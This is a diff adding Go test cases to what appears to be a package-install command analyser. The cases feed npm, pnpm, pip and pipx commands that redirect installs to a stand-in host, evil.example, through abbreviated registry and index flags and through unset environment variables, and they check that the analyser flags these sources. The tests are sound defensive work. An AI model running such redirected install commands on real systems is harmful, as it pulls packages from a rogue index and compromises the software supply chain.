@@ -171,6 +171,23 @@ var packageCases = []struct {
 	{"npm --replace-registry-host never ci", []string{"(package.json) <dynamic> npm ^0"}},
 	{"npm --loglevel silent install x", []string{"x registry.npmjs.org npm ^0"}},
 	{"npm --cache /tmp/c ci", []string{"(package.json) registry.npmjs.org npm ^0"}},
+	// Index options under a spelling the parser expands (pip's optparse
+	// and npm's nopt take an unambiguous prefix; nopt any leading dashes).
+	{"npm --reg=https://evil.example i x", []string{"<dynamic> <dynamic> npm ^0"}},
+	{"npm -reg https://evil.example i x", []string{"<dynamic> <dynamic> npm ^0"}},
+	{"npm i --reg https://evil.example x", []string{"https://evil.example <dynamic> npm ^0", "x <dynamic> npm ^0"}},
+	{"npm i -registry=https://evil.example x", []string{"x <dynamic> npm ^0"}},
+	{"npm i --userc ./u x", []string{"./u  npm ^0", "x <dynamic> npm ^0"}},
+	{"npm i --global x", []string{"x registry.npmjs.org npm ^0"}},
+	{"pnpm add --reg=https://evil.example x", []string{"x <dynamic> pnpm ^0"}},
+	{"pip install --index-u https://evil.example x", []string{"https://evil.example evil.example pip ^0", "x <dynamic> pip ^0"}},
+	{"pip install --extra-index=https://evil.example x", []string{"x <dynamic> pip ^0"}},
+	{"pip install --find https://evil.example/links x", []string{"https://evil.example/links evil.example pip ^0", "x <dynamic> pip ^0"}},
+	{"pipx install --pip-args='--index-url https://evil.example' x", []string{"x <dynamic> pipx ^0"}},
+	{"pipx install --index https://evil.example x", []string{"https://evil.example <dynamic> pipx ^0", "x <dynamic> pipx ^0"}},
+	// A removal whose name is known only when run may remove the pin.
+	{"env -u \"$V\" pip install x", []string{"x <dynamic> pip ^1"}},
+	{"unset $V; pip install x", []string{"x <dynamic> pip ^1"}},
 	{"NPM_CONFIG_GLOBALCONFIG=/tmp/g npm i x", []string{"x <dynamic> npm ^0"}},
 	{"PIP_CONFIG_FILE=./pip.conf pip install x", []string{"x <dynamic> pip ^0"}},
 	{"PIP_FIND_LINKS=https://h.example/links pip install x", []string{"x <dynamic> pip ^0"}},
